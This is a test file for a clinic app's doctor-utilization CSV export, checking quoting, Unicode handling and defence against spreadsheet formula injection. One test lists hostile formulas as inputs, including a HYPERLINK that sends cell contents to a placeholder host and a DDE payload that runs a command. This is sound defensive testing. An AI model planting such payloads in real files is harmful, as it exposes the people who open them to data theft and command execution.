import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, utilizationCsv } from '../../../shared/ipc/admin/report-csv';
import { emptyByStatus, emptyByType, type ClinicReport, type DoctorUtilization } from '../../../shared/ipc/admin/reports';

function reportOf(doctors: Pick<DoctorUtilization, 'name' | 'specialization'>[]): ClinicReport {
  const totals = { availableMinutes: 0, bookedMinutes: 0, appointments: 0, byStatus: emptyByStatus(), byType: emptyByType(), newPatients: 0, noShowRate: null, cancellationRate: null };
  return {
    from: '2026-11-30',
    to: '2026-12-06',
    weeks: ['2026-11-30'],
    doctors: doctors.map((d, i) => ({
      doctorId: i + 1,
      isActive: true,
      ...d,
      weeks: [{ weekStart: '2026-11-30', availableMinutes: 600, bookedMinutes: 75 }],
      availableMinutes: 600,
      bookedMinutes: 75,
    })),
    byWeek: [],
    totals,
    elapsedMs: 1,
  };
}

/** How a spreadsheet reads the file: RFC 4180, records ending in CRLF. */
const read = (csv: string): string[][] => parse(csv, { record_delimiter: '\r\n' });

describe('the utilization CSV', () => {
  it('writes a fixed report exactly: a header, one row per doctor and week, CRLF after each', () => {
    const csv = utilizationCsv(reportOf([{ name: 'Dr. Generated Smith', specialization: 'General Practice' }, { name: 'Dr. Generated, Jones', specialization: '=1+1' }]));
    expect(csv).toBe(
      'doctor,specialization,week_start,available_minutes,booked_minutes,utilization_percent\r\n' +
        'Dr. Generated Smith,General Practice,2026-11-30,600,75,12.5\r\n' +
        `"Dr. Generated, Jones",'=1+1,2026-11-30,600,75,12.5\r\n`,
    );
  });

  it('keeps quotes, commas, line breaks and any script intact in their own cell', () => {
    const tricky = [
      { name: 'Dr. "Doc" Generated, Jr.', specialization: 'Ear, Nose\nand Throat' },
      { name: 'Dr. Zoë Ñúñez-Øster', specialization: '小児科 · طب الأطفال · 🩺' },
      { name: 'Dr. Quote""Twice', specialization: 'line\r\nbreak' },
    ];
    const rows = read(utilizationCsv(reportOf(tricky)));
    expect(rows).toHaveLength(1 + tricky.length);
    expect(rows.slice(1).map((r) => [r[0], r[1]])).toEqual(tricky.map((d) => [d.name, d.specialization]));
    expect(rows.slice(1).every((r) => r.length === 6)).toBe(true);
  });

  it('neutralises cells a spreadsheet would run as a formula (=, +, -, @, tab, CR) with a leading quote', () => {
    const attacks = ['=HYPERLINK("http://example.invalid?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
    const rows = read(utilizationCsv(reportOf(attacks.map((name) => ({ name, specialization: name })))));
    for (const [i, attack] of attacks.entries()) {
      expect(rows[i + 1]![0]).toBe(`'${attack}`);
      expect(rows[i + 1]![1]).toBe(`'${attack}`);
    }
    // text that only contains those characters later is left alone
    expect(read(`${csvLine(['Dr. A-B', 'x=y', 'a@b.example'])}\r\n`)[0]).toEqual(['Dr. A-B', 'x=y', 'a@b.example']);
    // figures we computed stay numbers, even negative ones
    expect(csvField(-5)).toBe('-5');
  });

  it('reads back every text as written, or with one leading quote when it starts like a formula (property)', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme', maxLength: 30 }), { minLength: 1, maxLength: 6 }), (cells) => {
        const [row] = read(`${csvLine(cells)}\r\n`);
        expect(row).toEqual(cells.map((c) => (/^[=+\-@\t\r]/.test(c) ? `'${c}` : c)));
      }),
      { numRuns: 300 },
    );
  });
});
